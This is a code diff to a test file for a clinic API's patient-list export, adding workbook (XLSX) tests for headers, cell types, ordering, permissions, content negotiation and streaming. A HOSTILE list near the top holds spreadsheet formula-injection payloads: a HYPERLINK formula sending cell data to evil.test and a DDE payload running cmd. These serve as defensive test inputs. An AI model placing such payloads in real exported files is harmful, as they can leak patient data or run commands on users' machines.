@@ -17,11 +17,13 @@ import {
   UNKNOWN_ID,
 } from "../../../../test/harness.ts";
 import { givenSummary, statsWith } from "../../../../test/summaries.ts";
+import { readWorkbook } from "../../../../test/workbook.ts";
 import { app } from "../../../entry/app.ts";
 import { readableTable } from "./readable-table.ts";
 import { TABLE_COLUMNS } from "./table.ts";
 
 const CSV = { accept: "text/csv" };
+const XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
 const HOSTILE = [
   '=HYPERLINK("http://evil.test/?"&A1,"x")',
   "+1+cmd|' /C calc'!A0",
@@ -271,6 +273,58 @@ describe("ListPatients with Accept: text/csv; headings=readable", () => {
   });
 });
 
+describe("ListPatients with Accept of a workbook", () => {
+  const workbook = (query = "", caller: Caller = clinic.member) => table(query, caller, { accept: XLSX });
+  const rowsIn = (answer: Answer) => readWorkbook(answer.bytes).rows("Patients");
+
+  test("200 a file to be saved, under a name that says nothing of anybody", async () => {
+    const answer = await workbook();
+    expect([answer.status, answer.headers.get("content-type")]).toEqual([200, XLSX]);
+    expect(answer.headers.get("content-disposition")).toMatch(
+      /^attachment; filename="patients-\d{4}-\d\d-\d\d\.xlsx"$/,
+    );
+    expect(answer.headers.get("cache-control")).toBe("no-store");
+  });
+
+  test("has the table for people: texts as texts, numbers as numbers, dates as texts", async () => {
+    await rows("UPDATE clinics SET preferred_bg_units = 'mmol/L' WHERE id = ?", clinic.clinicId);
+    const [headings, ada, ...others] = rowsIn(await workbook("?search=ada@table"));
+    expect(headings).toEqual(readableTable("mmol/L").headings);
+    expect(others).toEqual([]);
+    const cells = Object.fromEntries(headings!.map((heading, i) => [heading, ada![i] ?? ""]));
+    expect(cells).toMatchObject({
+      Name: "Ada",
+      "Date of birth": "1987-02-03",
+      MRN: "-17",
+      Tags: "+Tag; Pump",
+      "Last CGM data (UTC)": "2026-05-01 10:00",
+      "CGM time in target (%)": 62.5,
+      "CGM time in target, change (percentage points)": -12.5,
+      "CGM average glucose (mmol/L)": 8.3,
+      "BGM readings": "",
+    });
+  });
+
+  test("holds every patient once in the asked order, under the name that is stored, and no formula", async () => {
+    const query = "?sort=-fullName&sortType=cgm";
+    const book = readWorkbook((await workbook(query)).bytes);
+    const json = await table(`${query}&limit=1000`, clinic.member, {});
+    const shown = (name: string) => name.replaceAll(/\r\n?/g, "\n");
+    expect(book.extras).toEqual([]);
+    expect(
+      book
+        .rows("Patients")
+        .slice(1)
+        .map(([id, name]) => [id, name]),
+    ).toEqual(json.body.data.map(({ id, fullName }: any) => [id, shown(fullName)]));
+  });
+
+  test("403 as JSON for a clinician who only prescribes", async () => {
+    const answer = await workbook("", clinic.prescriber);
+    expect([answer.status, answer.body.code]).toEqual([403, 403]);
+  });
+});
+
 describe("the media type of a list of patients", () => {
   test.each([
     [undefined, "application/json"],
@@ -289,6 +343,12 @@ describe("the media type of a list of patients", () => {
     ["text/csv;q=0, */*", "application/json"],
     ["text/csv;q=0", "application/json"],
     ["application/json;q=0, */*;q=0.1", "text/csv"],
+    [XLSX, XLSX],
+    [`${XLSX}, application/json;q=0.9`, XLSX],
+    [`${XLSX};q=0.5, text/csv`, "text/csv"],
+    [`application/json, ${XLSX}`, "application/json"],
+    ["application/*", "application/json"],
+    ["application/json;q=0, text/*;q=0, */*", XLSX],
     ["text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "application/json"],
     ["text/html", "application/json"],
     ["nonsense;;q=x,,", "application/json"],
@@ -314,7 +374,11 @@ describe("a long table", () => {
   });
 
   /** The table served with a database that does something else before each batch: the finding is 0, its parts 1 to 3. */
-  async function servedWith(before: (part: number) => Promise<void> | void, replaced: Record<string, unknown> = {}) {
+  async function servedWith(
+    before: (part: number) => Promise<void> | void,
+    replaced: Record<string, unknown> = {},
+    headers: Record<string, string> = CSV,
+  ) {
     let parts = 0;
     let isPart = false;
     let isFinding = false;
@@ -337,7 +401,7 @@ describe("a long table", () => {
     };
     const ctx = createExecutionContext();
     const request = new Request(`http://clinics.test${large.path}/patients`, {
-      headers: { ...CSV, "x-tidepool-session-token": large.member.token },
+      headers: { ...headers, "x-tidepool-session-token": large.member.token },
     });
     const response = await app.fetch(request, { ...env, ...replaced, DB }, ctx);
     return { response, settled: () => waitOnExecutionContext(ctx), parts: () => parts };
@@ -357,6 +421,32 @@ describe("a long table", () => {
     const lines = parse(text, { columns: true, bom: true }) as Record<string, string>[];
     expect(lines.map(({ fullName }) => fullName)).toEqual(Array.from({ length: PATIENTS }, (_, i) => `P ${i + 1}`));
     expect(parts()).toBe(3);
+  });
+
+  test("comes in such parts as a workbook, too, and breaks off when the database fails", async () => {
+    const { response, settled, parts } = await servedWith(() => {}, {}, { accept: XLSX });
+    const reader = response.body!.getReader();
+    const chunks: Uint8Array<ArrayBuffer>[] = [];
+    const asked: number[] = [parts()];
+    for (let next = await reader.read(); !next.done; next = await reader.read()) {
+      chunks.push(next.value);
+      asked.push(parts());
+    }
+    await settled();
+    expect([asked[0], asked[1], asked.at(-1)]).toEqual([1, 1, 3]);
+    for (const [i, count] of asked.slice(1).entries()) expect(count - asked[i]!).toBeLessThanOrEqual(1);
+    const book = readWorkbook(new Uint8Array(await new Blob(chunks).arrayBuffer()));
+    const names = book.rows("Patients").map(([, name]) => name);
+    expect(names).toEqual(["Name", ...Array.from({ length: PATIENTS }, (_, i) => `P ${i + 1}`)]);
+    const broken = await servedWith(
+      (part) => {
+        if (part === 2) throw new Error("D1_ERROR: Network connection lost.");
+      },
+      {},
+      { accept: XLSX },
+    );
+    await expect(broken.response.arrayBuffer()).rejects.toThrow("the rest could not be made");
+    await broken.settled();
   });
 
   test("503 as JSON when the database fails before anything was sent", async () => {
